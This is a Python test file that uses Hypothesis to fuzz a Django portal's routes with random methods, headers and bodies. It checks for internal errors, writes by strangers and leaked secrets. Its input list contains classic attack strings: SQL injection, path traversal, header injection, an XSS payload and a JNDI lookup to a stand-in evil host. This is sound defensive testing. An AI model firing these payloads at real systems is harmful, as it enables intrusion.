"""Fuzzing with arbitrary requests: no internal error, no effect by strangers, no secret in a response."""

import json
from typing import Any
from urllib.parse import urlencode

import pytest
from django.conf import settings as portal
from django.db import transaction
from django.test.client import BOUNDARY, MULTIPART_CONTENT, encode_multipart
from hypothesis import HealthCheck, assume, given, settings
from hypothesis import strategies as st

from tests import footprint
from tests.everything import World, build_url, find_flaws
from tests.routes import METHODS, ROLES, ROUTES

pytestmark = pytest.mark.django_db
# By a link, a key or credentials; and anyone may begin a consent, which creates a row.
OPEN_TO_STRANGERS = ("take", "done", "report", "company_integration", "consent_begin", "token")
ROWS = sorted(row for row in ROUTES if not row.startswith("admin") or "_order" in row or "_user" in row)
ODD_TEXTS = [
    "", "..", "../../partner/configuration", "%2e%2e", "%00", "\0", "\r\nSet-Cookie: x=1", "'", "' OR 1=1--", "{{7*7}}",
    '"><svg onload=alert(1)>', "${jndi:ldap://evil.example}", "%n%s", "\ud800", "\u202e", "é", "\U0001f600", "null",
    "-1", "0", "1e999", "NaN", "9" * 30, "x" * 5000, "https://evil.example", "//evil.example", "[]", "{}", "__proto__",
    ";", "a=b", "*/*", "text/html", "application/json; charset=klingon", "multipart/form-data; boundary=x", "gzip",
    "iframe", "application/x-www-form-urlencoded", "Basic eDp5", "Bearer x", "Bearer " + "x" * 300, "bytes=0-5",
]  # fmt: skip
TEXT = st.sampled_from(ODD_TEXTS) | st.text(max_size=20)
NAMES = [
    "ACCEPT", "ACCEPT_ENCODING", "ACCEPT_LANGUAGE", "AUTHORIZATION", "CONTENT_ENCODING", "COOKIE", "FORWARDED", "HOST",
    "IDEMPOTENCY_KEY", "IF_MODIFIED_SINCE", "IF_NONE_MATCH", "ORIGIN", "RANGE", "REFERER", "REQUESTER", "X_CSRFTOKEN",
    "SEC_FETCH_DEST", "USER_AGENT", "X_FORWARDED_FOR", "X_FORWARDED_HOST", "X_FORWARDED_PROTO", "X_REQUEST_ID",
    "X_HTTP_METHOD_OVERRIDE",
]  # fmt: skip
JSON = st.recursive(
    st.none() | st.booleans() | st.integers(-(2**70), 2**70) | st.floats() | TEXT,
    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(TEXT, inner, max_size=3),
    max_leaves=6,
)


def replace_surrogates(text: str) -> str:
    """Replace lone surrogates, which UTF-8 cannot encode."""
    return text.encode("utf-8", "replace").decode()


BODIES = (
    st.tuples(st.binary(max_size=60), TEXT)
    | st.tuples(JSON.map(lambda value: json.dumps(value).encode("utf-8", "surrogatepass")), st.just("application/json"))
    | st.tuples(
        st.dictionaries(TEXT, TEXT, max_size=3).map(lambda sent: urlencode(sent, errors="replace").encode()),
        st.just("application/x-www-form-urlencoded"),
    )
    | st.dictionaries(st.sampled_from(["file", "name", "assessment_id", "login"]), TEXT, max_size=3).map(
        lambda sent: (
            encode_multipart(BOUNDARY, {name: replace_surrogates(text) for name, text in sent.items()}),
            MULTIPART_CONTENT,
        )
    )
)


def encode_for_wsgi(text: str) -> str:
    """Encode as a WSGI server does: bytes as Latin-1, without characters that no server accepts."""
    sent = text.encode("utf-8", "replace").decode("latin-1")
    return sent.replace("\0", "").replace("\r", "").replace("\n", "")


def change_path(url: str, pieces: list[str]) -> str:
    """Return the URL with its last segment replaced, or with more segments."""
    path = url.partition("?")[0]
    if pieces and len(pieces) % 2:
        path = "/".join([*path.rstrip("/").split("/")[:-1], pieces[0]])
    return path + "".join(f"/{piece}" for piece in pieces[1:])


def build_headers(world: World, role: str, headers: dict[str, str]) -> dict[str, str]:
    """Return request headers; a role with a token keeps its own Authorization."""
    return {
        f"HTTP_{name}": text for name, text in headers.items() if name != "AUTHORIZATION" or role not in world.tokens
    }


ANYTHING = {
    "place": st.tuples(st.sampled_from(ROWS), st.lists(TEXT, max_size=2)),
    "method": st.sampled_from([*METHODS, "OPTIONS", "TRACE", "PROPFIND", "get", "BREW"]),
    "query": st.dictionaries(TEXT, TEXT, max_size=3).map(lambda sent: urlencode(sent, errors="replace"))
    | TEXT.map(encode_for_wsgi),
    "headers": st.dictionaries(st.sampled_from(NAMES), TEXT.map(encode_for_wsgi), max_size=3),
    "sent": BODIES,
}
Place = tuple[str, list[str]]
Sent = tuple[bytes, str]
FUZZ_SETTINGS = settings(
    max_examples=250,
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow, HealthCheck.data_too_large],
)


def send_request(
    world: World, role: str, place: Place, method: str, query: str, headers: dict[str, str], sent: Sent
) -> Any:
    path = change_path(build_url(world, place[0]), place[1]).encode("utf-8", "replace").decode("latin-1")
    more = build_headers(world, role, headers) | {"PATH_INFO": path, "QUERY_STRING": query}
    answer = world.send_request(role, method, "/", sent[0], encode_for_wsgi(sent[1]) or "x", **more)
    assert find_flaws(answer, path) == [], (answer.status_code, answer.content[:300])
    return answer


@FUZZ_SETTINGS
@given(role=st.sampled_from(ROLES), **ANYTHING)
def test_nothing_that_comes_in_is_a_fault_of_ours(
    world: World, role: str, place: Place, method: str, query: str, headers: dict[str, str], sent: Sent
) -> None:
    with transaction.atomic():
        send_request(world, role, place, method, query, headers, sent)
        transaction.set_rollback(True)


@FUZZ_SETTINGS
@given(role=st.sampled_from(["stranger", "charlie", "others"]), **ANYTHING)
def test_stranger_changes_nothing_and_learns_nothing(
    world: World, role: str, place: Place, method: str, query: str, headers: dict[str, str], sent: Sent
) -> None:
    """Strangers and other customers receive no secret of Northwind; strangers write nothing."""
    assume("guessed" in place[0] or place[0].partition(",")[0] not in OPEN_TO_STRANGERS)
    with transaction.atomic(), footprint.record_writes() as written:
        answer = send_request(world, role, place, method, query, headers, sent)
        transaction.set_rollback(True)
    assert role != "stranger" or written == []
    output = answer.content.decode("utf-8", "replace") + str(answer.headers)
    assert [secret for secret in list_secrets(world) if secret in output] == []


def list_secrets(world: World) -> list[str]:
    return [
        *world.tokens.values(),
        world.credentials["client_secret"],
        world.connection.their_client_secret,
        world.order.link_token,
        world.report.link_token,
        world.configuration.disable_key,
        world.webhook.secret,
        world.users["alice"].password,
        portal.SECRET_KEY,
        *portal.ENCRYPTION_KEYS,
        "lovelace",
        "Lovelace",
    ]
